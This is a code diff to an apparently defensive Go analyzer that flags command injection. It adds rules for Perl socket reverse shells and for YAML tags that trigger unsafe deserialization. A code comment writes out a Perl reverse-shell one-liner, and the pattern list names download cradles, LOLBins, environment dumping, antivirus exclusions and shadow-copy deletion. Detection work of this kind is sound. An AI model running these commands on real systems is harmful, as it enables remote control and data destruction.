@@ -1000,6 +1000,17 @@ func (a *analysis) textSignalsOn(it *item, t string, f float64) {
 		h.any("connect(", "tcpsocket", "fsockopen", "socket(") {
 		a.cmd.add("command_injection.reverse_shell", it.field, sp(), 0.85*f)
 	}
+	if h.has("io::socket::inet") && h.any("open(stdin", "/bin/sh", "exec(", "cmd.exe") {
+		// perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("h:p");open(STDIN,"<&",$s);…exec("/bin/sh -i")'
+		a.cmd.add("command_injection.reverse_shell", it.field, sp(), 0.88*f)
+	}
+	if h.any("!!python/object/apply:", "!!python/object/new:", "!!python/name:", "!!python/module:", "tag:yaml.org,2002:python/object",
+		"!!javax.script.scriptenginemanager", "!!com.sun.rowset.jdbcrowsetimpl", "!!java.net.urlclassloader", "!ruby/object:gem::", "!ruby/hash:gem::") {
+		// YAML tags that make a loader construct and call objects
+		// (PyYAML's unsafe load, SnakeYAML, Psych): code execution when
+		// the document is parsed, whatever tool parses it
+		a.cmd.add("command_injection.unsafe_deserialization", it.field, sp(), 0.7*max(f, factorValue))
+	}
 	if h.has("fsockopen(") && h.any("exec(", "shell_exec", "system(", "proc_open", "popen", "/bin/sh") {
 		a.cmd.add("command_injection.reverse_shell", it.field, sp(), 0.88*f)
 	}
@@ -1233,4 +1244,5 @@ func hasShortFlag(args []string, letters ...byte) bool {
 }
 
 // textAnchors are the substrings textSignalsOn tests.
-var textAnchors = newAnchorSet("/dev/tcp/", "/dev/udp/", "/inet/tcp/", "/inet/udp/", "net.sockets.tcpclient", "getstream", "iex", "invoke-expression", "streamwriter", "cmd", "socket", "pty.spawn", "dup2(", "os.dup2", "subprocess.call([\"/bin/", "subprocess.call(['/bin/", "/bin/sh\",\"-i", "exec(\"/bin/sh", "'/bin/sh'", "\"/bin/sh\"", "cmd.exe", "connect(", "tcpsocket", "fsockopen", "socket(", "fsockopen(", "exec(", "shell_exec", "system(", "proc_open", "popen", "/bin/sh", "downloadstring", "downloaddata", "downloadfile", "invoke-webrequest", "iwr ", "iwr(", "irm ", "invoke-restmethod", "net.webclient", "start-bitstransfer", "print(os.environ)", "dict(os.environ)", "os.environ.items()", "json.dumps(dict(os.environ", "json.stringify(process.env)", "console.log(process.env)", "[environment]::getenvironmentvariables()", "object.entries(process.env)", "env.to_h", "%env", "frombase64string", "[system.text.encoding]", "assembly]::load", "certutil", "-urlcache", "/urlcache", "-verifyctl", "-decode", "http://", "https://", "bitsadmin", "/transfer", "mshta", "vbscript:", "javascript:", "regsvr32", "/i:http", "rundll32", ":(){", "nopasswd", "all", "set-mppreference", "-disable", "add-mppreference", "exclusion", "advfirewall", "state off", "vssadmin", "delete shadows", "shadowcopy delete", "wbadmin", "delete", "recoveryenabled no")
+var textAnchors = newAnchorSet("io::socket::inet", "open(stdin", "!!python/object/apply:", "!!python/object/new:", "!!python/name:", "!!python/module:", "tag:yaml.org,2002:python/object",
+	"!!javax.script.scriptenginemanager", "!!com.sun.rowset.jdbcrowsetimpl", "!!java.net.urlclassloader", "!ruby/object:gem::", "!ruby/hash:gem::", "/dev/tcp/", "/dev/udp/", "/inet/tcp/", "/inet/udp/", "net.sockets.tcpclient", "getstream", "iex", "invoke-expression", "streamwriter", "cmd", "socket", "pty.spawn", "dup2(", "os.dup2", "subprocess.call([\"/bin/", "subprocess.call(['/bin/", "/bin/sh\",\"-i", "exec(\"/bin/sh", "'/bin/sh'", "\"/bin/sh\"", "cmd.exe", "connect(", "tcpsocket", "fsockopen", "socket(", "fsockopen(", "exec(", "shell_exec", "system(", "proc_open", "popen", "/bin/sh", "downloadstring", "downloaddata", "downloadfile", "invoke-webrequest", "iwr ", "iwr(", "irm ", "invoke-restmethod", "net.webclient", "start-bitstransfer", "print(os.environ)", "dict(os.environ)", "os.environ.items()", "json.dumps(dict(os.environ", "json.stringify(process.env)", "console.log(process.env)", "[environment]::getenvironmentvariables()", "object.entries(process.env)", "env.to_h", "%env", "frombase64string", "[system.text.encoding]", "assembly]::load", "certutil", "-urlcache", "/urlcache", "-verifyctl", "-decode", "http://", "https://", "bitsadmin", "/transfer", "mshta", "vbscript:", "javascript:", "regsvr32", "/i:http", "rundll32", ":(){", "nopasswd", "all", "set-mppreference", "-disable", "add-mppreference", "exclusion", "advfirewall", "state off", "vssadmin", "delete shadows", "shadowcopy delete", "wbadmin", "delete", "recoveryenabled no")
